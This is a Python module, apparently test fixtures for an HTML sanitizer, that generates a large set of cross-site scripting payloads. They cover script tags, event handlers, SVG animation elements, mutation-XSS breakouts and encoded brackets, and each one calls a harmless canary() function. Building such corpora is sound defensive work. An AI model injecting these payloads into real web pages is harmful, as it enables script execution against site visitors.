"""Markup that tries to run something, in its classic families; what runs calls `canary()`.

Addresses are on hosts that do not exist, so that nothing is ever fetched by a mistake of ours.
"""

import json
from collections.abc import Iterable
from pathlib import Path

#: What is combined, and what stands for itself; with JSON escapes, as an editor would not show most of it.
WORDS = json.loads(Path(__file__).with_name("words.json").read_text("utf-8"))
CALL = "canary()"
_FAR = "http://canary.invalid/x"
_HANDLERS = WORDS["handlers"]
_ELEMENTS = WORDS["elements"]
_SCHEMES = WORDS["schemes"]
_SCHEMED = WORDS["schemed"]


def _scripts() -> Iterable[str]:
    for name in WORDS["scripts.name"]:
        yield from (f"<{name}>{CALL}</{name.strip()}>", f"<{name}>{CALL}", f"<<{name}>{CALL}//<</script>")
    yield from (f"{closing}<script>{CALL}</script>" for closing in WORDS["scripts.closing"])
    yield from WORDS["scripts"]


def _handlers() -> Iterable[str]:
    for number, element in enumerate(_ELEMENTS):
        for offset in range(4):
            yield f"<{element} {_HANDLERS[(number + offset * 4) % len(_HANDLERS)]}={CALL}>x"
    for space in WORDS["handlers.space"]:
        yield from (f"<img{space}src=x{space}onerror={CALL}>", f"<svg{space}onload={CALL}>")
    for quote in ('"', "'", "`", "&quot;", "&#39;", '""', "'\"", '\\"'):
        yield from (
            f"<img src={quote}x{quote}onerror={quote}{CALL}{quote}>",
            f"<img alt={quote}{quote}><img src=x onerror={CALL}>",
        )
        yield from (
            f'<img alt="{quote}" onerror={CALL} src=x>',
            f"<a title={quote}x onmouseover={CALL} {quote}href=x>x</a>",
        )
    yield from WORDS["handlers2"]


def _foreign() -> Iterable[str]:
    for root in WORDS["foreign.root"]:
        for inner in WORDS["foreign.inner"]:
            yield f"<{root}>{inner}"
    for element in ("animate", "set", "animateTransform", "animateMotion"):
        yield from (
            f"<svg><{element} onbegin={CALL} attributeName=x dur=1s>",
            f"<svg><a><{element} attributeName=href values=javascript:{CALL} /><text y=9>x</text></a>",
        )
    yield from WORDS["foreign"]


def _mutations() -> Iterable[str]:
    for box in WORDS["mutations.box"]:
        yield from (
            f"<{box}><p title='</{box}><img src=x onerror={CALL}>'>",
            f"<{box}><!--</{box}><img src=x onerror={CALL}>-->",
            f"<{box}><img title='</{box}><img src=x onerror={CALL}>'></{box}>",
        )
    for comment in WORDS["mutations.comment"]:
        yield from (
            f"{comment}<img src=x onerror={CALL}>",
            f"{comment}<img src=x onerror={CALL}>-->",
            f"{comment}>]]><script>{CALL}</script>",
        )
    yield from WORDS["mutations"]


def _pages() -> Iterable[str]:
    for css in WORDS["pages.css"]:
        yield from (
            f"<p style='{css}'>x</p>",
            f"<style>p{{{css}}}</style><p>x</p>",
            f'<img src=x style="{css}">',
        )
    yield from WORDS["pages"]


def _encodings() -> Iterable[str]:
    for less, more in WORDS["encodings.pairs"]:
        yield from (f"{less}script{more}{CALL}{less}/script{more}", f"{less}img src=x onerror={CALL}{more}")


PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_scripts(),
            *_handlers(),
            *_foreign(),
            *_mutations(),
            *_pages(),
            *_encodings(),
            *(shape.format(f"{scheme}{CALL}") for scheme in _SCHEMES for shape in _SCHEMED),
        ]
    )
)
